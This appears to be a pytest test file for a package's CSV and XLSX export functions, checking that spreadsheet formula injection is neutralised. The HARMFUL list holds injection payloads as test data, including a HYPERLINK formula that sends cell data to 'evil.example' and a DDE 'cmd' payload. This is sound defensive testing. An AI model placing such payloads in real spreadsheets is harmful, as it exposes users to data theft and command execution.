"""Tables for spreadsheets: what was typed arrives as text, whatever it looks like."""

import csv
import io
import tracemalloc
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from wagtail_agenda.spreadsheets import is_formula_like, write_csv, write_xlsx


def csv_bytes(*rows, headings=("A",)):
    file = io.BytesIO()
    write_csv(headings, rows, file)
    return file.getvalue()


def csv_rows(*rows, headings=("A",)):
    text = csv_bytes(*rows, headings=headings).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


def xlsx_sheet(*rows, headings=("A",), title="Bookings"):
    file = io.BytesIO()
    write_xlsx(headings, rows, file, title=title)
    return load_workbook(io.BytesIO(file.getvalue())).active


HARMFUL = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\n=1",
    "\r=1",
    "\tharmless",
    " =1",
    "   +1",
    "\u00a0=1",
    "\u3000=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\u2066=1",
    "\u061c=1",
    "\ufe0f=1",
    "\U000e0020=1",
    "\x00=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "﹦1",
    "﹣1",
    "⁺1",
    "−1",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_csv_marks_what_looks_like_a_formula_as_text(text):
    ((cell,),) = csv_rows([text])

    assert cell.startswith("'")
    assert cell.endswith(text.lstrip("\r\n\x00\ufeff"))


@pytest.mark.parametrize("text", HARMFUL)
def test_xlsx_says_that_it_is_text(text):
    cell = xlsx_sheet([text])["A2"]

    assert cell.data_type == "s"
    assert not str(cell.value).startswith("'")


@pytest.mark.parametrize(
    "text",
    [
        "Ada",
        "1=1",
        "a@b.example",
        "06 12 34 56 78",
        "’tis",
        "'quoted'",
        "",
        " Ada",
        "…",
        "(0)",
        "#",
    ],
)
def test_everything_else_is_left_as_it_is(text):
    assert not is_formula_like(text)
    assert csv_rows([text]) == [[text]]
    assert xlsx_sheet([text])["A2"].value == (text or None)


@pytest.mark.parametrize("number", [10**15, -(10**400), Decimal("1e500"), float("inf")])
def test_a_number_that_no_spreadsheet_holds_arrives_as_text(number):
    cell = xlsx_sheet([number])["A2"]

    assert (cell.data_type, cell.value) == ("s", str(number))
    assert xlsx_sheet([10**15 - 1])["A2"].value == 10**15 - 1


def test_telephone_numbers_stay_readable():
    assert csv_rows(["+33 6 12 34 56 78"]) == [["'+33 6 12 34 56 78"]]
    cell = xlsx_sheet(["+33 6 12 34 56 78"])["A2"]
    assert (cell.data_type, cell.value) == ("s", "+33 6 12 34 56 78")
    assert xlsx_sheet(["0123"])["A2"].value == "0123"


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "#DIV/0!"])
def test_xlsx_takes_no_text_for_an_error(text):
    assert xlsx_sheet([text])["A2"].data_type == "s"


def test_headings_are_as_dangerous_as_cells():
    assert csv_bytes(headings=["=1"]).decode("utf-8-sig") == '"\'=1"\r\n'
    assert xlsx_sheet(headings=["=1"])["A1"].data_type == "s"


def test_a_program_with_another_separator_cannot_cut_a_text_in_two():
    (_heading, line) = csv_bytes(['a;=1+1\t=2 "x"']).decode("utf-8-sig").splitlines()

    assert line == '"a;=1+1\t=2 ""x"""'


def test_numbers_are_numbers():
    assert csv_rows([-5, 2.5, Decimal("-0.5")]) == [["-5", "2.5", "-0.5"]]
    row = [cell.value for cell in xlsx_sheet([-5, 2.5, Decimal("-0.5")])[2]]
    assert row == [-5, 2.5, -0.5]


def test_moments_and_days_are_written_by_iso_8601_and_sort_in_a_workbook():
    moment, day = datetime(2026, 11, 30, 9, 5), date(2026, 1, 2)

    assert csv_rows([moment, day, None]) == [["2026-11-30 09:05", "2026-01-02", ""]]
    sheet = xlsx_sheet([moment, day, None])
    assert sheet["A2"].value == moment
    assert sheet["A2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["B2"].value == datetime(2026, 1, 2)
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet["C2"].value is None


def test_excel_is_told_that_a_csv_file_is_utf_8():
    assert csv_bytes(["Chloé Ødegård 王"]).startswith(b"\xef\xbb\xbf")
    assert csv_rows(["Chloé Ødegård 王"]) == [["Chloé Ødegård 王"]]


def test_lines_stay_in_their_cell():
    assert csv_rows(["one\r\ntwo\nthree"]) == [["one\ntwo\nthree"]]
    assert xlsx_sheet(["one\r\ntwo"])["A2"].value == "one\ntwo"


def test_the_first_row_stays_in_sight():
    assert xlsx_sheet(["x"]).freeze_panes == "A2"


@pytest.mark.parametrize(
    ("title", "expected"), [("Bookings", "Bookings"), ("a/b:c?[d]*'" + "e" * 40, None), ("", "1")]
)
def test_any_words_name_a_sheet(title, expected):
    sheet = xlsx_sheet(title=title)
    assert len(sheet.title) <= 31
    assert sheet.title == (expected or sheet.title)


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_makes_a_file_that_can_be_read_and_holds_no_formula(texts):
    (row,) = csv_rows(texts, headings=["h"] * len(texts))
    assert not any(is_formula_like(cell) for cell in row)
    sheet = xlsx_sheet(texts, headings=["h"] * len(texts))
    for cell in sheet[2]:
        assert cell.data_type in ("s", "n")
        assert cell.value is None or isinstance(cell.value, str)


def test_what_no_cell_can_hold_is_taken_out():
    texts = ["a\x00b", "a\x0bb", "a\ud800b", "a\ufffeb", "a\uffffb", "a\x1bb"]

    assert csv_rows(texts, headings=["h"] * 6) == [["ab"] * 6]
    assert [cell.value for cell in xlsx_sheet(texts, headings=["h"] * 6)[2]] == ["ab"] * 6


def test_a_text_longer_than_a_cell_can_be_is_cut_in_a_workbook_only():
    text = "x" * 40_000

    assert csv_rows([text]) == [[text]]
    assert len(xlsx_sheet([text])["A2"].value) == 32_767


@pytest.mark.parametrize("write", ["csv", "xlsx"])
def test_a_large_table_needs_no_more_memory_than_a_small_one(write, tmp_path):
    def rows(count):
        return (["Ada Martin", "ada@fairbridge.example", number] for number in range(count))

    def peak(count):
        tracemalloc.start()
        with open(tmp_path / "file", "wb") as file:
            if write == "csv":
                write_csv(["a", "b", "c"], rows(count), file)
            else:
                write_xlsx(["a", "b", "c"], rows(count), file, title="x")
        _now, highest = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return highest

    peak(10)
    assert peak(8_000) < peak(1_000) + 500_000


def test_a_workbook_is_a_workbook():
    file = io.BytesIO()
    write_xlsx(["A"], [["x"]], file, title="x")
    assert zipfile.ZipFile(file).testzip() is None
